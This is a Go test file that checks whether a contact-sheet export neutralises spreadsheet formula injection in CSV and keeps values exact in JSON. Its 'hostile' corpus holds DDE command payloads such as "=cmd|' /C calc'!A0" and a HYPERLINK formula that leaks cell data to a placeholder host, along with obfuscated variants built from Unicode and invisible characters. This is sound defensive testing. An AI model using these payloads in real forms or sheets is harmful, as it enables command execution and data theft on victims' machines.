package format_test

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/text/unicode/norm"

	"github.com/rallyvault/rallyvault/sharing/format"
	"github.com/rallyvault/rallyvault/vault"
	"github.com/rallyvault/rallyvault/vault/sheet"
	"github.com/rallyvault/rallyvault/vault/sheet/sheettest"
)

// hostile are texts that people put into forms to have them run where the sheet
// is opened.
var hostile = func() (all []string) {
	formulas := []string{
		`=HYPERLINK("http://x.invalid/?"&A2,"click, please")`, "=cmd|' /C calc'!A0", "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
		"＝cmd|' /C calc'!A0", "＋1a", "－1a", "＠SUM(A1)", "−1a", "⁼a1",
	}
	ahead := []string{"", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u00ad", "\u202e", "\u200e", "\u200d", "\x00",
		"'", `"`, `"'`, "Ana;", "Ana\t", "Ana\n", `Ana";`, `Ana;"`}
	for _, a := range ahead {
		for _, f := range formulas {
			all = append(all, a+f)
		}
	}
	return all
}()

// live reports whether a spreadsheet might run a cell that it reads.
func live(cell string) bool {
	rest := strings.TrimLeftFunc(cell, func(r rune) bool {
		return unicode.In(r, unicode.Cc, unicode.Cf, unicode.White_Space, unicode.Variation_Selector) || r == '"'
	})
	rest = norm.NFKC.String(rest)
	return rest != "" && strings.ContainsAny(rest[:1], "=+-@") || strings.HasPrefix(rest, "−")
}

// cellsAnywhere are the cells that a spreadsheet of any language may see in a file:
// whatever is its separator, and whether or not it heeds quotes.
func cellsAnywhere(file string) (cells []string) {
	for line := range strings.Lines(strings.TrimPrefix(file, "\ufeff")) {
		cells = append(cells, strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) })...)
	}
	return cells
}

// imported reads a sign-in sheet with the hostile texts in columns of names, cities
// and groups, as far as they are kept.
func imported(t *testing.T, fields []sheet.Field) (cs []vault.Contact) {
	t.Helper()
	var file strings.Builder
	w := csv.NewWriter(&file)
	w.Write([]string{"Name", "City", "Organization", "Phone", "Can drive?"})
	for _, evil := range hostile {
		if strings.Contains(evil, "\x00") {
			continue // such a file is refused as a whole
		}
		w.Write([]string{evil, evil, evil, "+1 212 555 0100", evil})
		w.Write([]string{"Ana Lopez", evil, "Queens Rally", "212-555-0101", "yes"})
	}
	w.Flush()
	s, err := sheet.Open(strings.NewReader(file.String()), sheet.Options{Fields: fields, Region: "US", Questions: map[sheet.Field]string{sheet.Question1: "Can drive?"}})
	if err != nil {
		t.Fatal(err)
	}
	var row sheet.Row
	for {
		err := s.Next(&row)
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if row.Refusal == sheet.None {
			cs = append(cs, vault.Contact{ID: anID, Values: slices.Clone(row.Cells)})
		}
	}
	return cs
}

// TestFormulas: the corpus, through an import as well as past it, is inert in CSV
// and reads back to the same cells, and JSON has it exactly.
func TestFormulas(t *testing.T) {
	fields := []sheet.Field{sheet.Name, sheet.City, sheet.Organisation, sheet.Phone, sheet.Question1}
	contacts := imported(t, fields)
	if len(contacts) < 2*len(hostile)*9/10 {
		t.Fatalf("got %d contacts of %d from the import, too few to tell", len(contacts), 2*len(hostile))
	}
	dangerous := 0
	for _, c := range contacts {
		for _, v := range c.Values[:3] {
			if live(v) {
				dangerous++
			}
		}
	}
	if dangerous < len(hostile) {
		t.Fatalf("%d cells that are run came through the import, too few to tell", dangerous)
	}
	for _, evil := range hostile {
		contacts = append(contacts, vault.Contact{ID: anID, Values: []string{evil, evil, evil, evil, evil}})
	}
	for name, file := range map[string]string{
		"house":  house(t, format.CSV, fields, contacts),
		"export": export(t, format.CSV, someNotice, fields, contacts),
	} {
		for _, c := range cellsAnywhere(file) {
			if live(c) {
				t.Errorf("%s: %q is run", name, c)
			}
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(file, "\ufeff")))
		r.FieldsPerRecord = -1
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		skip, above := 1, 1
		if name == "export" {
			skip, above = 0, 2
		}
		records = records[above:]
		if len(records) != len(contacts) {
			t.Fatalf("%s: got %d records, want %d", name, len(records), len(contacts))
		}
		for k, c := range contacts {
			for i, v := range c.Values {
				got := records[k][i+skip]
				if live(got) && fields[i] != sheet.Phone {
					t.Errorf("%s: %q is run", name, got)
				}
				if got := sheettest.Undefuse(got); got != v {
					t.Errorf("%s: got %q back, want %q", name, got, v)
				}
			}
			if phone := records[k][3+skip]; k < 2 && phone != c.Values[3] {
				t.Errorf("%s: got phone %q, want %q", name, phone, c.Values[3])
			}
		}
	}

	var object struct{ Contacts []map[string]string }
	if err := json.Unmarshal([]byte(export(t, format.JSON, someNotice, fields, contacts)), &object); err != nil {
		t.Fatal(err)
	}
	var want []map[string]string
	for _, c := range contacts {
		w := make(map[string]string)
		for i, f := range fields {
			w[string(f)] = c.Values[i]
		}
		want = append(want, w)
	}
	if !slices.EqualFunc(want, object.Contacts, maps.Equal) {
		t.Errorf("JSON is not exact (-want +got)\n%s", cmp.Diff(want, object.Contacts))
	}
}
